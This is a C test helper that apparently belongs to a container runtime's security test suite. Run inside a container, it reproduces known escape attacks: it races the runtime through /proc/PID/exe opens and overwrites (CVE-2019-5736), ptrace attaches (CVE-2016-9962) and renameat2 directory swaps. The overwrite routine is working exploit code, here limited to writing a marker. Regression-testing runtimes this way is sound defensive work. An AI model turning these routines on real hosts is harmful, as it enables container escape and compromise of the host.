/* sectool.c - the attacker's side of security.bats: a static program copied into a container's rootfs that
 * races the runtime (scans /proc, opens exe links, ptrace-attaches, swaps directories) and reports what it got.
 * Must never link libhull or need a libc in the container: it is written from the CVE reports alone. */
#include <ctype.h>
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <limits.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#define MAX_SEEN 4096

static double now(void)
{
	struct timespec ts;
	clock_gettime(CLOCK_MONOTONIC, &ts);
	return (double)ts.tv_sec + (double)ts.tv_nsec / 1e9;
}

static int read_comm(pid_t pid, char *buf, size_t size)
{
	char path[64];
	snprintf(path, sizeof(path), "/proc/%d/comm", pid);
	int fd = open(path, O_RDONLY | O_CLOEXEC);
	if (fd < 0)
		return -1;
	ssize_t n = read(fd, buf, size - 1);
	close(fd);
	if (n <= 0)
		return -1;
	buf[n] = '\0';
	buf[strcspn(buf, "\n")] = '\0';
	return 0;
}

static int has_prefix(const char *comm, char **prefixes)
{
	for (; *prefixes; prefixes++)
		if (strncmp(comm, *prefixes, strlen(*prefixes)) == 0)
			return 1;
	return 0;
}

static int seen_before(pid_t *seen, int n, pid_t pid)
{
	for (int i = 0; i < n; i++)
		if (seen[i] == pid)
			return 1;
	return 0;
}

/* exe-probe DEV INO SECONDS STOPFILE PREFIX...: CVE-2019-5736 and CVE-2016-9962 from inside: every process whose
 * comm starts with PREFIX (the runtime joining the container, before its execve) is hit with an O_PATH open of
 * /proc/PID/exe and a ptrace attach (PTRACE_SEIZE).  Prints "seen=N exe=N ptrace=N ..."; exe counts opens that reached the file
 * DEV:INO (the runtime's binary on the host), ptrace the attaches to a process still running it. */
static int exe_probe(int argc, char **argv)
{
	if (argc < 5)
		return 2;
	dev_t dev = (dev_t)strtoull(argv[0], NULL, 10);
	ino_t ino = (ino_t)strtoull(argv[1], NULL, 10);
	double end = now() + atof(argv[2]);
	const char *stop = argv[3];
	char **prefixes = argv + 4;
	static pid_t seen[MAX_SEEN];
	int n_seen = 0, exe_hits = 0, exe_other = 0, ptrace_ok = 0, ptrace_late = 0;
	pid_t self = getpid();
	setvbuf(stdout, NULL, _IOLBF, 0);
	while (now() < end && access(stop, F_OK) != 0) {
		DIR *d = opendir("/proc");
		if (d == NULL)
			return 1;
		struct dirent *de;
		while ((de = readdir(d)) != NULL) {
			if (!isdigit((unsigned char)de->d_name[0]))
				continue;
			pid_t pid = (pid_t)atoi(de->d_name);
			char comm[64];
			if (pid == self || read_comm(pid, comm, sizeof(comm)) < 0 || !has_prefix(comm, prefixes))
				continue;
			int fresh = !seen_before(seen, n_seen, pid);
			if (fresh && n_seen < MAX_SEEN)
				seen[n_seen++] = pid;
			char path[64];
			snprintf(path, sizeof(path), "/proc/%d/exe", pid);
			int fd = open(path, O_PATH | O_CLOEXEC);
			if (fd >= 0) {
				struct stat st;
				if (fstat(fd, &st) == 0 && st.st_dev == dev && st.st_ino == ino) {
					if (exe_hits++ < 5)
						printf("BREACH: opened %s (comm %s): the runtime's binary\n", path, comm);
				} else {
					exe_other++;
				}
				close(fd);
			}
			/* PTRACE_SEIZE is PTRACE_ATTACH's permission check without the SIGSTOP that a quick detach
			 * could leave pending (the tracee would stop for good once it exec'd) */
			if (ptrace(PTRACE_SEIZE, pid, NULL, NULL) == 0) {
				/* a process that exec'd its program a moment ago still has the runtime's comm: only
				 * a tracee still running the runtime's binary is a breach */
				struct stat st;
				int still = stat(path, &st) == 0 && st.st_dev == dev && st.st_ino == ino;
				if (still && ptrace_ok++ < 5)
					printf("BREACH: ptrace attached to %d (comm %s) running the runtime's binary\n", pid, comm);
				else if (!still)
					ptrace_late++;
				if (ptrace(PTRACE_INTERRUPT, pid, NULL, NULL) == 0) {
					int ws;
					if (waitpid(pid, &ws, __WALL) == pid && WIFSTOPPED(ws))
						ptrace(PTRACE_DETACH, pid, NULL, NULL);
				}
			}
		}
		closedir(d);
	}
	printf("seen=%d exe=%d ptrace=%d exe_other=%d ptrace_after_exec=%d\n", n_seen, exe_hits, ptrace_ok, exe_other,
	       ptrace_late);
	return 0;
}

/* steal-exe PID DEV INO SECONDS: CVE-2019-5736 step by step: hold /proc/PID/exe with O_PATH, then keep trying to
 * reopen it for writing (ETXTBSY while the runtime runs) and write a marker at its start once that works. */
static int steal_exe(int argc, char **argv)
{
	if (argc < 4)
		return 2;
	dev_t dev = (dev_t)strtoull(argv[1], NULL, 10);
	ino_t ino = (ino_t)strtoull(argv[2], NULL, 10);
	double end = now() + atof(argv[3]);
	char path[64];
	snprintf(path, sizeof(path), "/proc/%s/exe", argv[0]);
	setvbuf(stdout, NULL, _IOLBF, 0);
	int fd = open(path, O_PATH | O_CLOEXEC);
	if (fd < 0) {
		printf("open %s: %s\n", path, strerror(errno));
		return 0;
	}
	struct stat st;
	int match = fstat(fd, &st) == 0 && st.st_dev == dev && st.st_ino == ino;
	printf("open %s: ok, %s\n", path, match ? "BREACH: the runtime's binary" : "not the runtime's binary");
	if (!match)
		return 0;
	char self[64];
	snprintf(self, sizeof(self), "/proc/self/fd/%d", fd);
	int last = 0;
	while (now() < end) {
		int w = open(self, O_WRONLY | O_CLOEXEC);
		if (w >= 0) {
			const char marker[] = "#!/PWNED-by-sectool\n";
			ssize_t n = pwrite(w, marker, sizeof(marker) - 1, 0);
			printf("BREACH: reopened the runtime's binary for writing, wrote %zd bytes\n", n);
			close(w);
			return 0;
		}
		if (errno != last)
			printf("reopen for writing: %s\n", strerror(errno));
		last = errno;
		usleep(2000);
	}
	printf("reopen for writing: gave up\n");
	return 0;
}

/* swap A B SECONDS STOPFILE: CVE-2021-30465/CVE-2024-45310's racer, exchanging A and B as fast as it can. */
static int swap(int argc, char **argv)
{
	if (argc < 4)
		return 2;
	double end = now() + atof(argv[2]);
	unsigned long n = 0, fails = 0;
	while (now() < end) {
		for (int i = 0; i < 1000; i++)
			if (syscall(SYS_renameat2, AT_FDCWD, argv[0], AT_FDCWD, argv[1], 2 /* RENAME_EXCHANGE */) == 0)
				n++;
			else
				fails++;
		if (access(argv[3], F_OK) == 0)
			break;
	}
	printf("swapped=%lu failed=%lu\n", n, fails);
	return 0;
}

/* fds: every open fd but the one reading the directory, as "N -> target". */
static int fds(void)
{
	DIR *d = opendir("/proc/self/fd");
	if (d == NULL)
		return 1;
	struct dirent *de;
	while ((de = readdir(d)) != NULL) {
		if (!isdigit((unsigned char)de->d_name[0]) || atoi(de->d_name) == dirfd(d))
			continue;
		char path[PATH_MAX], target[PATH_MAX];
		snprintf(path, sizeof(path), "/proc/self/fd/%s", de->d_name);
		ssize_t n = readlink(path, target, sizeof(target) - 1);
		target[n < 0 ? 0 : n] = '\0';
		printf("%s -> %s\n", de->d_name, target);
	}
	closedir(d);
	return 0;
}

/* syscall NR [ARG...]: make raw syscall NR (glibc wrappers may hide ENOSYS) and print "NR: ERRNO-NAME"
 * or "NR: = RESULT"; seccomp.bats judges a filter's verdict by it. */
static int raw_syscall(int argc, char **argv)
{
	if (argc < 1 || argc > 7)
		return 2;
	long nr = strtol(argv[0], NULL, 0), a[6] = { 0 };
	for (int i = 1; i < argc; i++)
		a[i - 1] = strtol(argv[i], NULL, 0);
	errno = 0;
	long r = syscall(nr, a[0], a[1], a[2], a[3], a[4], a[5]);
	if (r < 0)
		printf("%ld: %s\n", nr, strerrorname_np(errno) ? strerrorname_np(errno) : "?");
	else
		printf("%ld: = %ld\n", nr, r);
	return 0;
}

int main(int argc, char **argv)
{
	if (argc >= 2 && strcmp(argv[1], "syscall") == 0)
		return raw_syscall(argc - 2, argv + 2);
	if (argc >= 2 && strcmp(argv[1], "exe-probe") == 0)
		return exe_probe(argc - 2, argv + 2);
	if (argc >= 2 && strcmp(argv[1], "steal-exe") == 0)
		return steal_exe(argc - 2, argv + 2);
	if (argc >= 2 && strcmp(argv[1], "swap") == 0)
		return swap(argc - 2, argv + 2);
	if (argc >= 2 && strcmp(argv[1], "fds") == 0)
		return fds();
	fprintf(stderr, "usage: sectool exe-probe DEV INO SECONDS STOPFILE PREFIX... | steal-exe PID DEV INO SECONDS |\n"
			"               swap A B SECONDS STOPFILE | fds | syscall NR [ARG...]\n");
	return 2;
}
